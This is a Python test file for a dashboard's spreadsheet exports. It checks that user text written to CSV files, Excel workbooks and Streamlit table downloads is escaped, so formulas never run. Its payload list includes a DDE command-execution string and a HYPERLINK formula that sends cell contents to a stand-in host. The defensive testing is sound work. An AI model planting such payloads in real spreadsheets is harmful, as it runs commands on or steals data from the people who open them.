"""Nothing that a person typed runs in Excel, in whatever file we hand out."""

import ast
import csv
from datetime import date
from io import BytesIO, StringIO
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from dashboard.model import Language
from dashboard.publish.workbooks import csv_file, sheets
from dashboard.web.common import streamlit_words

PACKAGE = Path(csv_file.__file__).parents[2]
PAYLOADS = [
    *(f"{sign}1+1" for sign in csv_file.FORMULA),
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://elsewhere.example?"&A1,"Bấm vào đây")',
    "@SUM(A1:A9)",
    "+84 901 234 567",
]
# Who writes a CSV: one function for what is handed out, and a developers' tool without people's words.
CSV_WRITERS = {"publish/workbooks/csv_file.py", "insight/tile_assignment.py"}
# What decides by itself whether a text is a formula may write our own constants only.
OPEN_WRITERS = {"publish/workbooks/d02_lt.py": {"write", "write_row"}}


def calls(*names: str) -> dict[str, set[str]]:
    """Module → which of these methods it calls on something called sheet, or of a module of this name."""
    found: dict[str, set[str]] = {}
    for module in sorted(PACKAGE.rglob("*.py")):
        # What comes in is read there, and what the demo sends in is invented.
        if module.parent.name in {"demo", "intake"}:
            continue
        for node in ast.walk(ast.parse(module.read_text("utf-8"))):
            if (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Attribute)
                and node.func.attr in names
            ):
                of = getattr(node.func.value, "id", "")
                if of == "sheet" or node.func.attr in {"to_csv", "writer", "DictWriter"}:
                    found.setdefault(module.relative_to(PACKAGE).as_posix(), set()).add(node.func.attr)
    return found


def test_every_csv_is_written_by_one_function():
    assert set(calls("to_csv", "writer", "DictWriter")) == CSV_WRITERS


def test_no_workbook_lets_a_text_decide_what_it_is():
    assert calls("write", "write_row", "write_column") == OPEN_WRITERS
    # Formulas are ours, to the letter: sums and numbering.
    assert set(calls("write_formula")) == {
        "publish/workbooks/d02_lt.py",
        "publish/workbooks/template.py",
    }


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_text_in_every_csv(payload):
    told = StringIO(csv_file.content(pd.DataFrame({payload: [payload]})).decode("utf-8-sig"), newline="")
    assert list(csv.reader(told)) == [[f"'{payload}"], [f"'{payload}"]]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_text_in_every_workbook(payload):
    file = BytesIO()
    with sheets.new_book(file, "Sổ", date(2021, 6, 30)) as book:
        looks = sheets.formats(book, {"cell": sheets.CELL, "day": sheets.DAY})
        sheets.write(book.add_worksheet(), 0, 0, payload, looks["cell"], looks["day"])
    cell = load_workbook(BytesIO(file.getvalue())).worksheets[0]["A1"]
    assert cell.data_type == "s"


@pytest.mark.parametrize("language", Language)
def test_the_file_that_streamlit_makes_of_a_table_runs_nothing_either(language):
    (file,) = (each for each in streamlit_words.scripts() if each.startswith("js/DataFrame."))
    plain = (streamlit_words.STATIC / "static" / file).read_text("utf-8")
    assert len(streamlit_words.A_CELL.findall(plain)) == 1
    assert streamlit_words.script(language, file).count(""".startsWith(each))&&(t="'"+t);return""") == 1
